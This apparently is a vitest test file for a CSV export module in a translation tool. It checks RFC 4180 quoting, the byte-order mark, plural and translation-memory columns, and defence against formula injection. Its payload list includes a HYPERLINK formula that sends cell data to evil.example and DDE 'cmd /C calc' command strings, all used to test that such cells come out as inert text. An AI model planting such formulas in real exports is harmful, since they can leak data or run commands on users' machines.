// CSV export against formula injection (OWASP "CSV Injection"): crafted cells come out as text.
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, flattenRow, toCsv, toJson } from './export.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+2',
  '+SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  // Spreadsheets skip leading white space before they look for a formula (issue #23, item 6).
  ' =1+2',
  '\u00A0=1+2',
  '\n=1+2',
  '\uFEFF=1+2',
  '  \u00A0\n@SUM(1+1)',
  ' -2+3',
];

describe('CSV export', () => {
  it('prefixes every formula-leading cell with an apostrophe and quotes it', () => {
    for (const payload of PAYLOADS) {
      expect(csvField(payload), payload).toBe(`"'${payload.replace(/"/g, '""')}"`);
    }
  });

  it('neutralises crafted cells anywhere in the rows (texts, nested fields, plural forms, lists, headers)', () => {
    const csv = toCsv([
      {
        id: 1,
        text: "=cmd|' /C calc'!A0",
        identifier: '@import',
        context: '+1',
        user: { username: '-evil', fullName: '=2*3' },
        labels: ['=A1', 'ok'],
      },
      { id: 2, text: { one: '=one', other: '\t=other' } },
      { id: 3, text: '\u00A0=HYPERLINK("http://evil.example")', context: '\n+1' },
      { '=header': 'x' },
    ]);
    const cells = csv.split('\r\n').flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell, cell).not.toMatch(/^"?\s*[=+\-@\t\r]/);
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'=A1; ok"`);
  });

  it('leaves plain numbers and ordinary text alone, and the JSON export raw', () => {
    expect(csvField('-5')).toBe('-5');
    expect(csvField('-0.25')).toBe('-0.25');
    expect(csvField('Save')).toBe('Save');
    expect(csvField('a=b')).toBe('a=b');
    expect(toJson([{ text: '=1+2' }])).toContain('"text": "=1+2"');
  });
});

describe('CSV export', () => {
  it('quotes fields with commas, quotes and line breaks as RFC 4180 says', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
  });

  it('writes a header and CRLF-terminated records', () => {
    const csv = toCsv([
      { id: 1, identifier: 'a', text: 'Hello, world' },
      { id: 2, identifier: 'b', text: 'He said "no"' },
    ]);
    expect(csv).toBe('\uFEFFid,identifier,text\r\n1,a,"Hello, world"\r\n2,b,"He said ""no"""\r\n');
  });

  it('starts with the UTF-8 byte-order mark, so Excel reads Ukrainian and Japanese as they are', () => {
    const bytes = new TextEncoder().encode(toCsv([{ text: 'Зберегти' }, { text: '保存' }]));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toBe('text\r\nЗберегти\r\n保存\r\n');
  });

  it('flattens plural source texts into one column per form, in CLDR order', () => {
    const csv = toCsv([
      { id: 1, text: 'Plain', type: 'text' },
      { id: 2, text: { other: '%d files', one: 'One file' }, type: 'plural' },
    ]);
    const [header, plain, plural] = csv.trimEnd().split('\r\n');
    expect(header).toBe('\uFEFFid,text,text.one,text.other,type');
    expect(plain).toBe('1,Plain,,,plain');
    expect(plural).toBe('2,,One file,%d files,plural');
  });

  it("flattens a plural translation's forms and takes user fields from the first form", () => {
    const flat = flattenRow({
      stringId: 7,
      contentType: 'text/plain',
      plurals: [
        { translationId: 1, text: 'Один файл', pluralForm: 'one', user: { id: 2, username: 'bob' } },
        { translationId: 2, text: 'Файлів', pluralForm: 'other', user: { id: 2, username: 'bob' } },
      ],
    });
    expect(flat).toMatchObject({
      stringId: '7',
      'text.one': 'Один файл',
      'text.other': 'Файлів',
      'user.username': 'bob',
      translationId: '1',
    });
  });

  it('joins arrays of scalars and keeps nested records as JSON', () => {
    const flat = flattenRow({ labelIds: [1, 3], votes: [{ id: 1, mark: 'up' }] });
    expect(flat.labelIds).toBe('1; 3');
    expect(JSON.parse(flat.votes!)).toEqual([{ id: 1, mark: 'up' }]);
  });

  it('is empty for no rows', () => expect(toCsv([])).toBe(''));
});

describe('CSV a spreadsheet reads', () => {
  it('writes a TM segment one column per language, not a JSON blob', () => {
    const csv = toCsv([
      {
        id: 1,
        records: [
          { id: 10, languageId: 'en', text: 'Save', usageCount: 3 },
          { id: 11, languageId: 'uk', text: 'Зберегти', usageCount: 1 },
        ],
      },
      { id: 2, records: [{ id: 12, languageId: 'en', text: 'Open' }] },
    ]);
    expect(csv.replace(CSV_BOM, '').split('\r\n')).toEqual(['id,en,uk', '1,Save,Зберегти', '2,Open,', '']);
  });

  it("orders a TM's language columns as the project does, not as the first segment lists them", () => {
    const rows = [
      {
        id: 1,
        records: [
          { languageId: 'de', text: 'Speichern' },
          { languageId: 'en', text: 'Save' },
        ],
      },
      {
        id: 2,
        records: [
          { languageId: 'uk', text: 'Відкрити' },
          { languageId: 'en', text: 'Open' },
        ],
      },
    ];
    const header = (languages?: string[]) =>
      toCsv(rows, undefined, languages).replace(CSV_BOM, '').split('\r\n')[0];
    expect(header()).toBe('id,de,en,uk');
    expect(header(['en', 'uk', 'de', 'fr'])).toBe('id,en,uk,de');
  });

  it('writes a string’s type in CroQL’s word, as the table does, and other types as sent', () => {
    const lines = toCsv([
      { id: 1, type: 'text' },
      { id: 2, type: 'plural' },
      { id: 3, type: 'full_form' },
    ])
      .replace(CSV_BOM, '')
      .split('\r\n');
    expect(lines.slice(1, 4)).toEqual(['1,plain', '2,plural', '3,full_form']);
  });

  it('writes names instead of ids when asked, ids the lists lack as ids', () => {
    const row = { id: 7, fileId: 3, labelIds: [1, 9], user: { id: 5, username: 'bob' }, userId: 5 };
    const names = {
      files: new Map([[3, 'checkout.json']]),
      labels: new Map([[1, 'ui']]),
      users: new Map([[5, { username: 'bob', fullName: 'Bob B' }]]),
    };
    const named = toCsv([row], names).replace(CSV_BOM, '').split('\r\n');
    expect(named[0]).toBe('id,file,labels,user.id,user.username,user');
    expect(named[1]).toBe('7,checkout.json,"ui, 9",5,bob,bob');
    expect(toCsv([row]).replace(CSV_BOM, '').split('\r\n')[0]).toBe(
      'id,fileId,labelIds,user.id,user.username,userId',
    );
    expect(toCsv([row]).replace(CSV_BOM, '').split('\r\n')[1]).toBe('7,3,1; 9,5,bob,5');
  });
});
